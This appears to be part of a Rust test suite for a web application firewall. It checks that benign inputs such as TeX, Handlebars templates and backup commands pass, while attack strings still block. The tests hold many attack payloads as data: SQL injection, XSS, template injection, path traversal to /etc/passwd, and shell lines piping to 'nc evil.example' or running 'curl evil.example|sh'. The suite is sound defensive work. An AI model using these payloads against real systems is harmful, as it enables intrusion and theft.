            values.extend(line.chunks(24).map(<[u8]>::to_vec));
            values.extend(line.split(|&b| b == b'"').map(<[u8]>::to_vec));
        }
    }
    for v in [
        "SKU-79345-S",
        "Liam van der Berg",
        "liam@example.net",
        "+56 73 6801 4016",
        "2024-12-06T23:53:01Z",
        "paid",
        "IE",
        "75640",
        "ord_000000_a05daf81",
        "https://example.com/a",
        "ftp://x",
        "a}",
        "x)",
        "a\nb",
        "",
        "1' or '1'='1",
        "<svg onload=alert(1)>",
        "; cat /etc/passwd",
        "union select 1",
        "__proto__",
        "eval(x)",
        "${jndi:x}",
        // Values with a base64 view (the lane searches its set): benign ones, and attacks only
        // that view's rules see (4408, 3405), padded, URL-safe, with percent-encoded padding.
        "promo-spring",
        "eyJhbGciOiJIUzI1NiJ9",
        "U29tZSBvcmRpbmFyeSB0ZXh0",
        "amF2YS5sYW5nLlJ1bnRpbWUuZ2V0UnVudGltZSgpLmV4ZWMoY21kKQ==",
        "amF2YS5sYW5nLlJ1bnRpbWUuZ2V0UnVudGltZSgpLmV4ZWMoY21kKQ",
        "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=",
        "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk%3D",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
        "b3JnLmFwYWNoZS5jb21tb25zLmNvbGxlY3Rpb25zLmZ1bmN0b3JzLkludm9rZXJUcmFuc2Zvcm1lcg",
        "d2hpbGUodHJ1ZSl7fQ==",
    ] {
        values.push(v.as_bytes().to_vec());
    }
    const BYTES: &[u8] = b"abcxyzSELECTunion0189 '\"<>/\\;()=-*#&|$.%:{}[]\n\t\x00\xff\xc3_@+";
    values.extend(normalize::random_values(0x005e_ed0f_fa57, 400, 30, |_, r| BYTES[r % BYTES.len()]));
    values.sort();
    values.dedup();
    let (mut lane, mut ordinary_lane, mut base64_lane) = (0, 0, 0);
    for level in [1, 2, 4] {
        let w = waf_with(&format!(r#"{{"paranoia_level":{level}}}"#));
        for classes in [
            class::ARG_VALUE,
            class::ARG_NAME,
            class::HEADER,
            class::HEADER | class::USER_AGENT,
            class::COOKIE_VALUE,
            class::COOKIE_NAME,
            class::FILENAME,
            class::BODY,
            class::PATH,
            class::URI,
        ] {
            for raw in &values {
                let bytes = RawBytes::of(raw);
                let canonical = bytes.canonical(raw);
                let shape = Shape::of(&canonical);
                if !w.certainly_clean(classes, (raw, bytes), &canonical, shape, &mut Vec::new()) {
                    continue;
                }
                lane += 1;
                base64_lane += usize::from(bytes.may_be_base64(raw.len()));
                ordinary_lane += usize::from(level == 1 && classes == class::ARG_VALUE && raw.len() < 24);
                let mut scan = Scan::default();
                let name = TargetName::new("args:", b"x");
                w.scan_full(&mut scan, classes, name, (raw, bytes), &canonical, shape);
                assert!(
                    scan.attempts == 0 && scan.matches.is_empty() && scan.fired.is_empty(),
                    "PL{level}, classes {classes}: {:?} took the fast lane but the full inspection records {:?}",
                    String::from_utf8_lossy(raw),
                    scan.matches
                );
            }
        }
    }
    assert!(
        lane > 5_000 && ordinary_lane > 100 && base64_lane > 100,
        "{lane} values took the fast lane ({ordinary_lane} short values, {base64_lane} with a base64 view)"
    );
}

/// `Waf::native_reachable` (each tokenizer's gate asked once for the kinds of native rule a class
/// runs) answers what asking `tokenizer_reachable` of each of the class's native rules answered:
/// every class bit, at PL1, PL2 and PL4, on generated values over the bytes the gates read (quotes,
/// `(`, `#`, `;`, the pairs `--`, `/*`, `||`, `&&`, `<`, `>`, `=`) and a few of each kind.
#[test]
fn native_kinds_answer_as_the_rules() {
    const BYTES: &[u8] = b"abcSELECT01 '\"<>/\\;()=-*#&|$.%:{}[]\n\t\x00\xff\xc3_@+`";
    let mut values: Vec<Vec<u8>> =
        normalize::random_values(0x6a7e_5eed, 4000, 24, |_, r| BYTES[r % BYTES.len()]).collect();
    for v in ["", "a", "--", "x--y", "a/*b", "a||b", "a&&b", "o'brien", "<b>", "a=b", "<a href=x>", "sku-1-s", "(1)"] {
        values.push(v.as_bytes().to_vec());
    }
    let mut answers = [0usize; 2];
    for level in [1, 2, 4] {
        let w = waf_with(&format!(r#"{{"paranoia_level":{level}}}"#));
        for bit in 0..class::COUNT {
            for v in &values {
                let shape = Shape::of(v);
                let want = w.native_reachable_by_rules(bit, shape, v);
                assert_eq!(w.native_reachable(bit, shape, v), want, "PL{level}, class bit {bit}: {v:?}");
                answers[usize::from(want)] += 1;
            }
        }
    }
    assert!(answers[0] > 10_000 && answers[1] > 10_000, "{answers:?}");
}

/// The class sets' own walk of the lazy DFA (`ClassSet::any_match`, for values up to
/// `WALK_MAX` bytes) answers what the search routine answers, on short values of every kind,
/// with caches kept from value to value (as in requests) and fresh ones.
#[test]
fn class_set_walk_agrees_with_the_search_routine() {
    const BYTES: &[u8] = b"abcdeilmnoprstuxyz0189 '\"<>/\\;()=-*#&|$.%:{}[]\n\t\x00\xff\xc3_@+";
    let mut values: Vec<Vec<u8>> =
        normalize::random_values(0x0dd_ba11, 1200, 16, |_, r| BYTES[r % BYTES.len()]).collect();
    for p in
        ["select ", "union", "<script", "onerror=", "../", "/etc/passwd", "cmd.exe", "|id", "$(", "sleep(", "<?php"]
    {
        for q in ["", "x", " ", "'", "1", "a b"] {
            values.push(format!("{q}{p}{q}").into_bytes());
            values.push(format!("{p}{q}").into_bytes());
        }
    }
    let mut matched = 0;
    for level in [1, 4] {
        let w = waf_with(&format!(r#"{{"paranoia_level":{level}}}"#));
        for cs in &w.sets {
            let (mut kept, mut theirs) = (cs.dfa.create_cache(), cs.dfa.create_cache());
            for (i, v) in values.iter().enumerate() {
                let expected = cs.dfa.try_search_fwd(&mut theirs, &Input::new(v).earliest(true));
                let expected = expected.map(|m| m.is_some()).map_err(drop);
                assert_eq!(
                    cs.any_match(&mut kept, v, &mut false),
                    expected,
                    "PL{level}: {:?}",
                    String::from_utf8_lossy(v)
                );
                if i % 97 == 0 {
                    assert_eq!(cs.any_match(&mut cs.dfa.create_cache(), v, &mut false), expected, "fresh cache");
                }
                matched += usize::from(expected == Ok(true));
            }
        }
    }
    assert!(matched > 200, "{matched} values matched: the values reach the rules");
}

/// The lazy DFAs' caches hold the states that varied traffic needs without clearing (a cache that
/// clears over and over builds every state again, at the cost of an epsilon closure each: about
/// 20 times the steady cost of a varied JSON body in V8, see `ClassSet::build`): every
/// request of the benign fixtures, heads and bodies, at PL1 and PL2, leaves no set's cache
/// cleared, and the default budget drops no cache at PL1 and at most one at PL2 (the fixtures of
/// 2026-12-01, 16,866 requests of about a hundred product domains, need 152 MB of states at PL1
/// and 399 MB at PL2, just over the 384 MiB default: one cache is dropped once and built again;
/// with holdouts 86–97, 19,266 requests, still one drop at most).
#[test]
fn caches_hold_the_states_of_varied_traffic() {
    let requests = fixture_requests();
    assert!(requests.len() > 2000, "{} requests", requests.len());
    // PL2's sets meet the most varied states: over the fixtures' ~22,000 requests (holdouts to
    // 115) two drops of a cache are allowed there, none at PL1.
    for (level, trims_allowed) in [(1, 0u64), (2, 2)] {
        let w = waf_with(&format!(r#"{{"paranoia_level":{level}}}"#));
        let mut trims = 0;
        for (uri, ct, body) in &requests {
            let mut r = get(uri, &[("content-type", ct)]);
            r.method = "POST".into();
            let mut s = w.inspect_head(&r);
            w.inspect_body(&mut s, ct.as_bytes(), body.as_bytes());
            trims += w.take_cache_trims();
        }
        assert!(trims <= trims_allowed, "PL{level}: {trims} caches dropped");
        let mut used = 0;
        for (i, cs) in w.sets.iter().enumerate() {
            let kept = cs.cache.lock();
            let Ok(kept) = kept else { continue };
            if let Some(c) = kept.as_ref() {
                assert_eq!(c.dfa.clear_count(), 0, "PL{level}: set {i} ({} members) cleared its cache", cs.rules.len());
                used += c.dfa.memory_usage();
            }
        }
        assert!(used > 4 << 20, "PL{level}: {} KB of states: the requests reach the automata", used >> 10);
    }
}

#[test]
fn holdout15_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");

    // A name that is also a database function's (an e-discovery production's `load_file`
    // setting) is a name; the function called, whatever the spacing or comments, is a call.
    let o = json_post(&waf, r#"{"volume": "PROD_003", "load_file": "dat_opt", "group_concat": false}"#);
    assert!(!o.blocked, "{o:?}");
    for q in [
        "1 union select load_file('/etc/passwd')",
        "load_file/**/(0x2f6574632f706173737764)",
        "x' and extractvalue(1,concat(0x7e,version()))-- ",
        "1 and updatexml (1,concat(0x7e,user()),1)",
        "(select group_concat(table_name) from x)",
        "select pg_read_file('/etc/passwd')",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 4205), "{q}: {o:?}");
    }
    // The catalogues and procedures are names of their own: still matched bare.
    for q in ["information_schema", "exec xp_cmdshell 'dir'"] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(o.matches.iter().any(|m| m.rule_id == 4205), "{q}: {o:?}");
    }

    // A survey's piped text `${e://Field/department}` is no shell expansion (the offset `/…` is an
    // arithmetic syntax error) nor PHP; substitutions, operators and PHP expressions still are.
    let o = json_post(&waf, r#"{"text": "Rate each statement:", "piping": "${e://Field/department}"}"#);
    assert!(!o.blocked, "{o:?}");
    let o = json_post(&waf, r#"{"q": "${q://QID4/ChoiceGroup/SelectedChoices}"}"#);
    assert!(!o.blocked, "{o:?}");
    for q in ["${x://$(id)}", "${x://`id`}", "${PATH:0:1}bin/sh", "${x:-/bin/sh} -c id", "${a//x/y}"] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3201), "{q}: {o:?}");
    }
    for q in ["${system('id')}", "${'_GET'}[0](1)", "c${x}url", "${f}(1)", "${a::b}"] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(o.matches.iter().any(|m| m.rule_id == 3305), "{q}: {o:?}");
    }
}

/// The requests of the benign fixtures (heads and bodies), as `(uri, content type, body)`.
fn fixture_requests() -> Vec<(String, String, String)> {
    let mut requests = Vec::new();
    let mut paths: Vec<_> =
        std::fs::read_dir("tests/fixtures").into_iter().flatten().flatten().map(|e| e.path()).collect();
    paths.sort();
    for path in paths {
        if !path.file_name().is_some_and(|n| n.to_string_lossy().starts_with("benign-api")) {
            continue;
        }
        let text = std::fs::read_to_string(&path).unwrap_or_default();
        for line in text.lines() {
            let Ok(v) = serde_json::from_str::<serde_json::Value>(line) else { continue };
            let uri = v.get("uri").and_then(|u| u.as_str()).unwrap_or("/").to_string();
            let body = v.get("body").and_then(|b| b.as_str()).unwrap_or("").to_string();
            let ct = if body.trim_start().starts_with(['{', '[']) {
                "application/json"
            } else {
                "application/x-www-form-urlencoded"
            };
            requests.push((uri, ct.to_string(), body));
        }
    }
    requests
}

/// What the sets' kept caches hold, summed.
fn cache_memory(w: &Waf) -> usize {
    w.sets.iter().filter_map(|cs| cs.cache.lock().ok()?.as_ref().map(|c| c.dfa.memory_usage())).sum()
}

/// A small automata budget bounds what the caches hold together after every search, drops the
/// largest when they would hold more (counted for the metric), and changes no verdict: every
/// request of the benign fixtures and a set of attacks scores the same matches as with the
/// default budget, at PL2 (the level whose caches grow most).
#[test]
fn a_small_automata_budget_bounds_the_caches_and_keeps_the_verdicts() {
    // The first 1,200 (in file order) outgrow 16 MiB; all of them would take a minute in a debug build.
    let mut requests = fixture_requests();
    requests.truncate(1200);
    for q in ["1' or '1'='1", "<svg onload=alert(1)>", "; cat /etc/passwd", "${jndi:ldap://x/a}", "../../etc/passwd"] {
        requests.push(("/search".into(), "application/json".into(), serde_json::json!({ "q": q }).to_string()));
    }
    let roomy = waf_with(r#"{"paranoia_level":2}"#);
    let small = waf_with(r#"{"paranoia_level":2,"automata_memory_mib":16}"#);
    let (mut trims, mut blocked) = (0, 0);
    for (uri, ct, body) in &requests {
        let mut outcomes = Vec::new();
        for w in [&roomy, &small] {
            let mut r = get(uri, &[("content-type", ct)]);
            r.method = "POST".into();
            let mut s = w.inspect_head(&r);
            w.inspect_body(&mut s, ct.as_bytes(), body.as_bytes());
            let o = w.outcome(&s);
            outcomes.push((o.total_score, o.matches.iter().map(|m| (m.rule_id, m.target.clone())).collect::<Vec<_>>()));
        }
        assert_eq!(outcomes[0], outcomes[1], "{uri} {body}");
        blocked += usize::from(outcomes[1].0 >= 5);
        trims += small.take_cache_trims();
        let held = cache_memory(&small);
        assert!(held <= 16 << 20, "{held} bytes held after {uri}");
        assert_eq!(held, small.budget.used.load(Ordering::Relaxed), "the budget counts what the caches hold");
    }
    assert!(trims > 0, "the fixtures need more than 16 MiB of states at PL2");
    assert!(blocked >= 5, "{blocked} requests blocked");
    assert_eq!(roomy.take_cache_trims(), 0, "the default budget holds them all");
}

#[test]
fn the_automata_budget_is_checked_with_its_path() {
    for bad in [0, 15, 2049] {
        let cfg: WafConfig = serde_json::from_str(&format!(r#"{{"automata_memory_mib":{bad}}}"#)).unwrap_or_default();
        let errors = Waf::compile(&cfg, "policies.api.waf").err().unwrap_or_default();
        assert!(
            errors.iter().any(|e| e.to_string().contains("policies.api.waf.automata_memory_mib")),
            "{bad}: {errors:?}"
        );
    }
    for good in [16, 256, 2048] {
        let cfg: WafConfig = serde_json::from_str(&format!(r#"{{"automata_memory_mib":{good}}}"#)).unwrap_or_default();
        assert!(Waf::compile(&cfg, "policies.api.waf").is_ok(), "{good}");
    }
}

#[test]
fn holdout16_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let pl2 = waf_with(r#"{"paranoia_level": 2}"#);
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);

    // TeX source: a brace list that is a control word's argument is weak (a shell would prefix
    // every item with `usepackage`); a list of its own, or any other expansion shape, is not.
    let tex = "\\documentclass[review]{elsarticle}\n\\usepackage{amsmath,graphicx,siunitx}\n\\begin{document}\n\\section{Introduction}\nFrost heave \\cite{Konrad1980,Rempel2004}.\n\\input{sections/model}\n\\end{document}\n";
    let o = json_post(&waf, &serde_json::json!({ "source": tex }).to_string());
    assert!(!o.blocked && rule(&o, 3208) == Some(3), "{o:?}");
    let o = json_post(&waf, &serde_json::json!({ "source": "\\usepackage[utf8]{inputenc,fontenc}" }).to_string());
    assert!(rule(&o, 3208) == Some(5), "one control word is no TeX source: {o:?}");
    for q in [
        ";{cat,/etc/passwd}",
        "x{cat,/etc/passwd}",
        "\\section{a}\n\\label{b}\n\\cite{c}\n{cat,/etc/passwd}",
        "\\section{a}\n\\label{b}\n\\usepackage{cat,x} ${IFS}id",
        "\\section{a}\n\\label{b}\n\\usepackage{cat,x} $@",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(o.blocked && rule(&o, 3208) == Some(5), "{q}: {o:?}");
    }

    // A correction between double-quoted words (`"it's" -> "its"`) is no JSON operator; the
    // operator with a key or a MySQL path, or a cast after a breakout in prose, still blocks.
    let review = "The paper is clearly written. Minor comments:\n- L142: \"it's\" -> \"its\"\n- Fig. 5: the axis labels are unreadable when printed in black and white.";
    let o = json_post(&waf, &serde_json::json!({ "comments": review }).to_string());
    assert!(!o.blocked, "{o:?}");
    for q in ["1'->'a'", "x'::text", "' ->> 'is_admin' = 'true", "x\" -> \"$.role", "x\"->>\"$.a\"", "x' -> 'role"] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(o.blocked && rule(&o, 4212) == Some(5), "{q}: {o:?}");
    }
    for q in [
        "Nice post, thanks for sharing it with all of us' or data->>'role'='admin' -- ",
        "Great product, really happy with it and the delivery was quick'::text or '1'='1",
        "Lovely service from the whole team today and I will be back'->'a' soon enough",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(o.blocked, "{q}: {o:?}");
    }

    // An HTML document rendered to PDF: an inert stylesheet in its head and markup that only
    // formats (no link, no image) are no signal; a footer with an inline style neither.
    let doc = "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><style>@page { size: A4; margin: 18mm 15mm; } @media print { .noprint { display: none } } body { font: 10pt/1.4 'Inter', sans-serif; color: #222 !important; } td { border-bottom: 1px solid rgb(221,221,221); }</style></head><body><h1>Invoice INV-2026-1142</h1><table><tr><td>Consulting</td><td class=\"num\">12</td></tr></table></body></html>";
    let footer = "<div style=\"font-size:8px;width:100%;text-align:right\"><span class=\"pageNumber\"></span> / <span class=\"totalPages\"></span></div>";
    let o = json_post(&waf, &serde_json::json!({ "html": doc, "footer_template": footer }).to_string());
    assert!(!o.blocked && o.matches.iter().all(|m| m.category != Category::Xss), "{o:?}");
    // A stylesheet that loads, imports, positions or escapes, or one outside a document's head,
    // acts.
    for css in [
        "body { background: url(https://evil.example/?c=1) }",
        "@import 'https://evil.example/x.css'; body { color: red }",
        "@font-face { font-family: x; src: local(x) }",
        "div.login { position: fixed; top: 0; left: 0; width: 100% }",
        "body { behavior: url(#default#x) }",
        "a { background: \\75 rl(https://evil.example/) }",
    ] {
        let v = format!("<html><head><style>{css}</style></head><body><p>Hi</p></body></html>");
        let o = json_post(&waf, &serde_json::json!({ "html": v }).to_string());
        assert!(o.blocked && o.matches.iter().any(|m| m.category == Category::Xss), "{css}: {o:?}");
    }
    let o = json_post(&waf, r#"{"bio": "<p>Hi</p><style>body { display: none }</style>"}"#);
    assert!(o.blocked, "a stylesheet outside a document's head: {o:?}");
    for q in ["\"><style>body{color:red}</style>", "\"><img src=x onerror=alert(1)>", "<svg onload=alert(1)>"] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(o.blocked, "{q}: {o:?}");
    }
    // Inert markup with a link stays weak evidence: two values of it add up.
    let link =
        "<p style=\"color:red\">Your session expired. <a href=\"https://evil.example/login\">Sign in again</a></p>";
    let o = json_post(&waf, &serde_json::json!({ "a": link, "b": link.replace("again", "now") }).to_string());
    assert!(o.blocked, "{o:?}");

    // A Handlebars template: `{{this.x}}` is the current context and `../currency` the parent's;
    // `this` reaching its constructor or the known payload's array surgery, and `../` that leads
    // to a file or sits outside the braces, still score.
    let hbs = "<h1>Invoice {{invoice.number}}</h1>\n{{#each line_items}}\n  <tr><td>{{this.description}}</td><td>{{formatCurrency this.amount ../currency}}</td></tr>\n{{/each}}\n{{#each ../../groups}}{{name}}{{/each}}\n<p>Loading... pages 1..3</p>";
    let o = json_post(&waf, &serde_json::json!({ "body": hbs }).to_string());
    assert!(o.matches.iter().all(|m| m.rule_id != 3403 && m.rule_id != 3000), "{o:?}");
    for q in [
        "{{this.constructor.constructor('return process')()}}",
        "{{this.push (lookup string.sub \"constructor\")}}",
        "{{this.pop}}",
        "{{ this.__proto__ }}",
        "{{this.toString()}}",
        "{{constructor.constructor('alert(1)')()}}",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(rule(&o, 3403) == Some(5), "{q}: {o:?}");
    }
    for q in [
        "../../etc/passwd",
        "{{../../etc/passwd}}",
        "{{x}} ../config.php",
        "{{x ../a/b}}",
        "{{x ../y}} %2e%2e/etc",
        "{{x ..\\y}}",
        "{{x ../y",
        "{{x a/../b}}",
        "{{x ../y}} .../etc/passwd",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(rule(&o, 3000) == Some(5), "{q}: {o:?}");
    }

    // XPath predicates (`[@class='stars']`, `[contains(@class,'count')]`) are no bracket globs;
    // globs over system paths still are.
    for x in
        ["//div[@class='stars']/@aria-label", "//span[contains(@class,'count')]/text()", "//table[@id='specs']//tr"]
    {
        let o = json_post(&waf, &serde_json::json!({ "extract": { "rating": x } }).to_string());
        assert!(!o.blocked && rule(&o, 3205).is_none(), "{x}: {o:?}");
    }
    for q in ["/e[t]c/pa[s]swd", "cat /e?c/p?ss?d", "/???/??t /???/p??s??", "/e[@t]c/p?ss?d"] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(o.blocked && rule(&o, 3205) == Some(5), "{q}: {o:?}");
    }

    // At PL2 the reviewer's correction passes too (4212 was its only match).
    let o = json_post(&pl2, &serde_json::json!({ "comments": review }).to_string());
    assert!(!o.blocked, "{o:?}");
}

#[test]
fn holdout18_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
    let cookie = |v: &str| waf.outcome(&waf.inspect_head(&get("/portal/api/balance", &[("cookie", v)])));

    // A session id prefixed `sess_` in a cookie, a JSON field or a query argument is an id, not
    // a PHP session file's name: no directory, no file opened.
    for c in ["tb_portal=sess_01HZX8Q2K7W; tb_practice=prc_00418", "__session=sess_2bX9kQ7mP0aZ"] {
        let o = cookie(c);
        assert!(!o.blocked && rule(&o, 3307).is_none(), "{c}: {o:?}");
    }
    let o = json_post(&waf, r#"{"object": "session", "id": "sess_2bX9kQ7mP0aZ", "status": "active"}"#);
    assert!(!o.blocked, "{o:?}");
    let o = outcome(&waf, "/v1/sessions?after=sess_2bX9kQ7mP0aZ&limit=20");
    assert!(!o.blocked, "{o:?}");
    // A session file's path, on any value, and a bare session file name where a request names a
    // file (a multipart file name, an `X-Filename` header), still block.
    for c in ["sid=/tmp/sess_abc123", "f=../../../../tmp/sess_abc123", "f=/var/lib/php/sessions/sess_abc"] {
        let o = cookie(c);
        assert!(o.blocked && rule(&o, 3307) == Some(5), "{c}: {o:?}");
    }
    for q in ["/tmp/sess_abc123", "/var/lib/php/sessions/sess_d8ew88tqmabdcokhumchy8htqm"] {
        let o = json_post(&waf, &serde_json::json!({ "page": q }).to_string());
        assert!(o.blocked && rule(&o, 3307) == Some(5), "{q}: {o:?}");
    }
    let upload =
        "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"sess_d8ew88tqmabdcokhumchy8htqm\"\r\n\r\nx|s:1:\"a\";\r\n--b--\r\n";
    let o = post("/upload", "multipart/form-data; boundary=b", upload, &waf);
    assert!(o.blocked && rule(&o, 3307) == Some(5), "{o:?}");
    for h in ["x-filename", "x-file-name"] {
        let o = waf.outcome(&waf.inspect_head(&get("/upload", &[(h, "sess_abc123def456ghi789jkl")])));
        assert!(o.blocked && rule(&o, 3307) == Some(5), "{h}: {o:?}");
    }

    // A statement keyword glued to a hyphen and a word is a compound word (`&mdash; drop-off` in
    // an HTML newsletter: the entity's `;` is no statement separator either way); a stacked
    // statement, or `select-…` (an expression), still blocks.
    let newsletter = "<h2>December at Little Acorns</h2><ul><li><strong>Closed</strong> Dec 24 &ndash; Jan 1.</li><li>Our coat drive runs through Dec 15 &mdash; drop-off bin is by the front desk.</li></ul><p>&ndash; Ms. Tanya &amp; the team</p>";
    let o = json_post(&waf, &serde_json::json!({ "html": newsletter }).to_string());
    assert!(!o.blocked && rule(&o, 4203).is_none(), "{o:?}");
    for t in [
        "Pickup moved to 4pm; drop-off stays at 8",
        "Fixed the menu; drop-down works now",
        "v2 ready; create-react-app removed",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "note": t }).to_string());
        assert!(!o.blocked, "{t}: {o:?}");
    }
    for q in [
        "1; drop table users",
        "x'; drop table t--",
        "'; shutdown--",
        "1);drop/**/table x",
        "x';exec-1",
        "1;select-1",
        "x' ;delete from users where 1=1--",
        "x'; drop-- \ntable users",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(o.blocked && o.matches.iter().any(|m| m.category == Category::Sqli), "{q}: {o:?}");
    }
    for q in ["1; drop table users", "x'; drop table t--", "1;select-1", "x';exec-1"] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(rule(&o, 4203) == Some(5), "{q}: {o:?}");
    }

    // Column enumeration quoted as a whole statement in a Markdown code span of text is a
    // program's weak signal; a clause outside the spans, in a span that is no statement, or after
    // a breakout, still blocks.
    let abstract_ = "Our service kept hitting `too many connections` at 3am. The culprit: a pool that opened a new connection per retry. We'll show how we found it (pg_stat_activity, a lot of `select state, count(*) from pg_stat_activity group by 1;`) and what a well-behaved pool looks like -- timeouts, back-pressure, and why `max_size = cores * 2` is a myth.";
    let o = json_post(&waf, &serde_json::json!({ "abstract": abstract_ }).to_string());
    assert!(!o.blocked && rule(&o, 4213) == Some(3), "{o:?}");
    for q in [
        "1 order by 5-- `x` and then more words here",
        "`1 order by 3--` and then a few more words",
        "x' order by 3-- `select 1` and more words here",
        "Try `select id from t` then 1 group by 2, and see what happens",
        "1 order by 10#",
        "1' group by 1,2,3--",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "q": q }).to_string());
        assert!(o.blocked && rule(&o, 4213) == Some(5), "{q}: {o:?}");
    }
}

#[test]
fn holdout19_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);

    // A command line that starts with a program piping into a further stage (a command word
    // with an argument or a pipe of its own) is a command line by design, as one whose first
    // command has an argument already was: a backup job's description, a support answer. Its
    // shell shapes (the pipe, a `$(date …)` in a file name) are one weak signal.
    assert!(context::is_script(b"pg_dump | gzip | aws s3 cp - s3://acme-backups/pg/$(date +%f).sql.gz"));
    assert!(context::is_script(b"ps | grep node"));
    assert!(context::is_script(b"mysqldump | gzip | ssh backup@nas 'cat > all.sql.gz'"));
    for v in [
        "pg_dump | gzip | aws s3 cp - s3://acme-backups/pg/$(date +%F).sql.gz -- alerts #ops-oncall",
        "mysqldump | gzip | aws s3 cp - s3://acme-backups/mysql/$(date +%Y%m%d).sql.gz",
        "ps | grep node",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "desc": v }).to_string());
        assert!(!o.blocked && rule(&o, 3200) == Some(3) && rule(&o, 3201).is_none(), "{v}: {o:?}");
        let o = outcome(&waf, &format!("/api/v3/checks?desc={}", query_escaped(v)));
        assert!(!o.blocked, "{v}: {o:?}");
    }
    // Data before the pipe, a bare second command, `||`, a stage that reaches the system (a
    // shell, `nc host port`, a system file, `rm -rf /`, a substitution running `curl`), or a
    // substitution on its own still block.
    assert!(!context::is_script(b"ls | id"));
    assert!(!context::is_script(b"127.0.0.1 | cat /etc/passwd"));
    assert!(!context::is_script(b"pg_dump || id"));
    assert!(!context::is_script(b"ls | ls | id"));
    for q in [
        "ls | id",
        "echo | whoami",
        "cat | id",
        "ls | ls | id",
        "echo | cat | whoami",
        "localhost | whoami",
        "127.0.0.1 | cat /etc/passwd",
        "x | wget http://evil.example/s -O /tmp/s",
        "pg_dump || id",
        "pg_dump |id",
        "ls | sh",
        "pg_dump | nc evil.example 4444",
        "pg_dump | $(id)",
        "echo | $(curl evil.example|sh)",
        "mysqldump | xargs rm -rf /",
        "ps | grep x; cat /etc/shadow",
        "$(date +%F)",
        "x$(id)",
    ] {
        let o = json_post(&waf, &serde_json::json!({ "desc": q }).to_string());
        assert!(o.blocked && o.matches.iter().any(|m| m.category == Category::Rce), "{q}: {o:?}");
    }
}

#[test]
fn holdout20_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let pl2 = waf_with(r#"{"paranoia_level":2}"#);
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
    let both = |v: &str| as_field_and_query(&waf, v);

    // A number in scientific notation followed by a space and `or`/`and` is text or maths (a
    // chess opening `1.e4`, a learning rate): the notation's trick is a keyword glued to the
    // number, with no space (4218).
    for v in [
        "Club player from Leeds. 1.e4 or bust. Coach @ Headingley CC -- DM for lessons",
        "we tried lr 1e-3 and 3e-4, batch 32",
        "need 2e4 or more reads per sample",
    ] {
        for o in both(v) {
            assert!(!o.blocked && rule(&o, 4218).is_none(), "{v}: {o:?}");
        }
    }
    // Glued keywords, `union`/`select`/`from` after a space, `1.e(` and the tautologies after a
    // number still block.
    for q in [
        "1e1or 1=1",
        "1.e1and 1=1",
        "1e0union select 1,2",
        "1 or 1.e1 from dual",
        "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1,1) 1,1) 1.e)",
        "1.e4 or 1=1",
        "1e1/**/or/**/1=1",
        "' or 1.e1 or '1'='1",
        "2.e0 or sleep(5)#",
    ] {
        for o in both(q) {
            assert!(blocked_category(&o, Category::Sqli), "{q}: {o:?}");
        }
    }
    for q in ["1e1or 1=1", "1.e1and 1=1", "1e0union select 1,2"] {
        assert_eq!(rule(&both(q)[0], 4218), Some(5), "{q}");
    }

    // With a space before `(`, a PHP function's name followed by a comparison is no call: no PHP
    // expression starts with `<`, `>` or `=` (a heredoc `<<<` does). `12.1 g/dL (< 12.5)` is a
    // measurement (3301).
    for v in ["12.1 g/dL (< 12.5)", "hgb 13.6 g/dL (>= 12.5 ok)", "file (= 2 MB max)"] {
        for o in both(v) {
            assert!(!o.blocked && rule(&o, 3301).is_none(), "{v}: {o:?}");
        }
    }
    for q in [
        "dl ('x.so')",
        "dl (<<<X\nx.so\nX\n)",
        "dl(<<<X",
        "assert (<<<'E'\nphpinfo()\nE\n)",
        "phpinfo ()",
        "system ($_GET[1])",
        "system (-1)",
        "passthru (@$_GET['c'])",
        "system (chr(105).chr(100))",
    ] {
        for o in both(q) {
            assert!(o.blocked && rule(&o, 3301) == Some(5), "{q}: {o:?}");
        }
    }

    // `INSERT INTO name (columns) SELECT …` is a whole statement by design, as `SELECT …` is: a
    // data pipeline's task. Its column enumeration (`GROUP BY 1, 2`) is a weak signal (4213).
    assert!(context::sql_statement(b"insert into mart.daily_revenue (ds, region, revenue)\nselect 1"));
    assert!(context::sql_statement(b"insert into t select a from b"));
    assert!(context::sql_statement(b"insert into t (a)\nwith x as (select 1) select * from x"));
